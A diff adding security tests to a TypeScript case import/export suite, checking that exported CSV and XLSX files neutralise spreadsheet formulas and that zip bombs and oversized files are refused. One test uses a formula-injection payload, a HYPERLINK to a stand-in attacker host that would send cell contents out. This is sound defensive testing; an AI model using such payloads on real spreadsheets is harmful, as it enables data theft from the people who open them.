@@ -13,6 +13,7 @@ import {
 import type { Db } from '../../db/index.ts';
 
 import { readTable } from '../../files/tabular.ts';
+import { xlsxBomb } from '../../files/zip.test-utils.ts';
 import { toActor } from '../account/account.service.ts';
 import { listCaseAudit } from '../audit/audit.service.ts';
 import { createCase } from '../case/case-intake.service.ts';
@@ -322,6 +323,64 @@ describeEachDb('case import and export', (ctx) => {
 		);
 		expect((await listCaseImports({ actor: actors.otherAdvisor }, { db })).imports).toEqual([]);
 		expect((await listCaseImports({ actor: actors.advisor }, { db })).imports).toHaveLength(1);
+	});
+
+	test('a name typed as a spreadsheet formula is exported as text in CSV and XLSX, and re-imports as typed', async () => {
+		const { db, actors } = await setup();
+		const formula = '=HYPERLINK("http://evil.example/?x="&A1,"CLICK")';
+		await createCase(
+			{
+				actor: actors.advisor,
+				input: { firstName: formula, lastName: '-2+3', phone: '+33 6 12 34 56 78', birthYear: '1985' }
+			},
+			{ db }
+		);
+		const csv = await exportCases({ actor: actors.advisor, format: 'csv' }, { db });
+		const text = new TextDecoder().decode(csv.body);
+		expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""CLICK"")"`);
+		expect(text).toContain(";'-2+3;");
+		expect(text).toContain(";'+33612345678;");
+		expect(text).not.toMatch(/(^|;)"?[=+@]/m);
+		expect(text).not.toMatch(/(^|;)-\D/m);
+
+		const xlsx = await exportCases({ actor: actors.advisor, format: 'xlsx' }, { db });
+		const workbook = new ExcelJS.Workbook();
+		await workbook.xlsx.load(xlsx.body as unknown as ArrayBuffer);
+		const cell = workbook.worksheets[0].getRow(2).getCell(2);
+		expect(cell.type).toBe(ExcelJS.ValueType.String);
+		expect(cell.value).toBe(`'${formula}`);
+
+		for (const [name, body] of [
+			['cases.csv', csv.body],
+			['cases.xlsx', xlsx.body]
+		] as const) {
+			const { table } = await readTable(name, body);
+			expect(table.rows[0][table.headers.indexOf('first_name')]).toBe(formula);
+			expect(table.rows[0][table.headers.indexOf('birth_year')]).toBe('1985');
+		}
+	});
+
+	test('a zip bomb, a 100,000-column CSV and a file over the row limit are refused before parsing, naming the limit', async () => {
+		const { db, actors } = await setup();
+		const wide = Array.from({ length: 100_000 }, (_, i) => `c${i}`).join(';');
+		for (const [fileName, body, code, details] of [
+			['bomb.xlsx', xlsxBomb(116), 'case_import.unpacks_too_large', { maxMegabytes: 50 }],
+			['liar.xlsx', xlsxBomb(116, { isLying: true }), 'case_import.unpacks_too_large', { maxMegabytes: 50 }],
+			['wide.csv', bytes(`${wide}\r\n${wide}\r\n`), 'case_import.too_many_columns', { max: 200 }],
+			[
+				'long.csv',
+				bytes(['a;b', ...Array.from({ length: 20_001 }, (_, i) => `${i};x`)].join('\r\n')),
+				'case_import.too_many_rows',
+				{ max: 20_000 }
+			]
+		] as const) {
+			const error = await expectDomainError(
+				importCaseFile({ actor: actors.advisor, input: { fileName, bytes: body } }, { db }),
+				code
+			);
+			expect(error.details, fileName).toMatchObject(details);
+		}
+		expect(await n(db, casesTable)).toBe(0);
 	});
 
 	test('an export re-imports as is: CSV and XLSX carry the same cases with their dates', async () => {
